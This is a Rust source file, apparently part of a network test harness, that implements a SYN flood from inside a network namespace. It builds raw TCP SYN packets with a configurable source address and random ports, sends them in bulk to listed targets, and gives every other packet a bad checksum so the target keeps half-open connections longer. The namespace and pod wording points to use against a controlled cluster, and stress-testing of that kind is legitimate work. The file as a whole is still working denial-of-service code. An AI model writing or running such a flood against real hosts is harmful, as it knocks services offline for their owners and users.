//! A SYN flood out of one namespace.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use cirri_loader::net::Namespace;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// What to flood with: every packet a connection that nobody has seen.
#[derive(Debug, Clone)]
pub struct Flood {
    /// The address of the pod that sends.
    pub from: Ipv4Addr,
    /// Whom to flood, one after the other.
    pub to: Vec<Ipv4Addr>,
    /// How many packets.
    pub packets: u64,
}

/// What was sent.
#[derive(Debug, Clone, Copy)]
pub struct Flooded {
    /// Packets that the pod's stack took.
    pub sent: u64,
    /// Packets that it did not: its queue was full.
    pub refused: u64,
    /// How long it took.
    pub took: Duration,
}

const HEADERS: usize = 40;

impl Flood {
    /// Sends it all from inside a namespace.
    ///
    /// # Errors
    /// If the socket cannot be opened, or a packet cannot be sent for another reason than a full queue.
    pub fn run(&self, inside: &Namespace) -> io::Result<Flooded> {
        inside.run(|| self.send()).map_err(|error| io::Error::other(error.to_string()))?
    }

    fn send(&self) -> io::Result<Flooded> {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
        socket.set_send_buffer_size(4 << 20)?;
        let targets: Vec<SockAddr> =
            self.to.iter().map(|to| SocketAddr::V4(SocketAddrV4::new(*to, 0)).into()).collect();
        let mut random = fastrand::Rng::with_seed(1);
        let (mut sent, mut refused) = (0, 0);
        let begun = Instant::now();
        for number in 0..self.packets {
            let target = number as usize % targets.len();
            let packet = syn(self.from, self.to[target], random.u16(1024..), random.u16(1..), random.u32(..), number);
            match socket.send_to(&packet, &targets[target]) {
                Ok(_) => sent += 1,
                Err(error) if error.raw_os_error() == Some(NO_BUFFERS) => refused += 1,
                Err(error) => return Err(error),
            }
        }
        Ok(Flooded { sent, refused, took: begun.elapsed() })
    }
}

/// `IPPROTO_RAW`: the header is in the packet.
const RAW: i32 = 255;
/// `ENOBUFS`.
const NO_BUFFERS: i32 = 105;

/// A SYN. Every other one has a wrong checksum: its receiver stays silent, so that nothing ends the
/// unfinished connection before its time.
fn syn(from: Ipv4Addr, to: Ipv4Addr, sport: u16, dport: u16, sequence: u32, number: u64) -> [u8; HEADERS] {
    let mut packet = [0; HEADERS];
    packet[..12].copy_from_slice(&[0x45, 0, 0, HEADERS as u8, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    packet[12..16].copy_from_slice(&from.octets());
    packet[16..20].copy_from_slice(&to.octets());
    packet[20..22].copy_from_slice(&sport.to_be_bytes());
    packet[22..24].copy_from_slice(&dport.to_be_bytes());
    packet[24..28].copy_from_slice(&sequence.to_be_bytes());
    packet[32..36].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]);
    if number.is_multiple_of(2) {
        let words = packet[12..].chunks_exact(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
        let mut sum = words.sum::<u32>() + 6 + (HEADERS as u32 - 20);
        while sum > 0xffff {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        packet[36..38].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    }
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_of_every_other_packet_holds() {
        let (from, to) = (Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2));
        let folded = |number| {
            let packet = syn(from, to, 4711, 80, 0x1234_5678, number);
            let words = packet[12..].chunks_exact(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
            let sum = words.sum::<u32>() + 6 + 20;
            (sum & 0xffff) + (sum >> 16)
        };
        assert_eq!(folded(0), 0xffff);
        assert_ne!(folded(1), 0xffff);
    }
}
